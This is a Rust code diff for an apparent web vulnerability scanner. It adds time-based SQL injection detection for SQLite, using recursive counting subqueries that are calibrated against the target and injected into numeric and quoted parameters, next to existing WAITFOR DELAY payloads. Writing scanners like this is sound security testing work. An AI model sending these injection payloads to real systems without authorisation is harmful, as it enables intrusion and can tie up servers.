@@ -213,6 +213,47 @@ async fn confirm_delay(
     )))
 }
 
+/// A payload that makes the database do work in proportion to a row count.
+type HeavyQuery = Box<dyn Fn(u64) -> String + Send + Sync>;
+
+/// SQLite's heavy query: a recursive count to `n`, a scalar subquery that needs no table
+/// and little memory.
+fn sqlite_count(n: u64) -> String {
+    format!(
+        "(SELECT count(*) FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<{n}) SELECT x FROM c))"
+    )
+}
+
+/// How long one row of `heavy` takes on this server, if a growing count slows the
+/// response beyond the server's own variation (`None` when it never does: not injectable,
+/// or not this database). Confirmation is left to [`confirm_delay`].
+async fn calibrate_heavy(
+    client: &HttpClient,
+    endpoint: &Endpoint,
+    param: &Param,
+    latency: Latency,
+    heavy: &HeavyQuery,
+) -> Result<Option<f64>, SendError> {
+    let budget = client.timeout().as_secs_f64() / 2.0;
+    let mut rows: u64 = 200_000;
+    while rows <= 500_000_000 {
+        let Some(ex) = probe(client, endpoint.request_with(&param.name, &heavy(rows))).await?
+        else {
+            return Ok(None);
+        };
+        let t = ex.elapsed.as_secs_f64();
+        let extra = t - latency.mean;
+        if t > latency.upper && extra > 0.3 {
+            return Ok(Some(extra / rows as f64));
+        }
+        if t > budget {
+            return Ok(None);
+        }
+        rows *= 8;
+    }
+    Ok(None)
+}
+
 /// A small number derived from the marker, for arithmetic payloads.
 fn operands(m: &str, salt: u64) -> (u64, u64) {
     let mut h: u64 = 0x9e37_79b9_7f4a_7c15 ^ salt;
@@ -270,6 +311,33 @@ pub async fn injections(client: &HttpClient, endpoint: &Endpoint, param: &Param)
         payloads.push(Box::new(move |d| {
             format!("{v5}'; WAITFOR DELAY '0:0:{d}'--")
         }));
+        // SQLite has no sleep: a query that counts to N takes time in proportion to N,
+        // calibrated against this server and then asked for seconds like the others.
+        let mut contexts: Vec<HeavyQuery> = Vec::new();
+        if v.parse::<i64>().is_ok() {
+            let v6 = v.clone();
+            contexts.push(Box::new(move |n| format!("{v6} AND {}>0", sqlite_count(n))));
+        }
+        let v7 = v.clone();
+        contexts.push(Box::new(move |n| {
+            format!("{v7}' AND {}>0 AND '1'='1", sqlite_count(n))
+        }));
+        for heavy in contexts {
+            if let Some(seconds_per_row) =
+                calibrate_heavy(client, endpoint, param, latency, &heavy).await?
+            {
+                payloads.push(Box::new(move |d| {
+                    // Aim a quarter beyond `d`, so an estimate a little off still delays
+                    // the response by at least `d`.
+                    let rows = if d == 0 {
+                        1
+                    } else {
+                        ((d as f64 * 1.25) / seconds_per_row).ceil() as u64
+                    };
+                    heavy(rows.max(1))
+                }));
+            }
+        }
         for payload in &payloads {
             if let Some((sent, timing)) =
                 confirm_delay(client, endpoint, param, latency, payload).await?
@@ -282,7 +350,7 @@ pub async fn injections(client: &HttpClient, endpoint: &Endpoint, param: &Param)
                     &sent,
                     &request,
                     format!(
-                        "parameter `{}` is injectable into SQL (time-based): a payload that makes the database wait delays the response by that long",
+                        "parameter `{}` is injectable into SQL (time-based): a payload that holds the database for a given time (a sleep, or SQLite's counting query) delays the response by that long",
                         param.name
                     ),
                     format!("{}; {timing}", latency.describe(samples)),
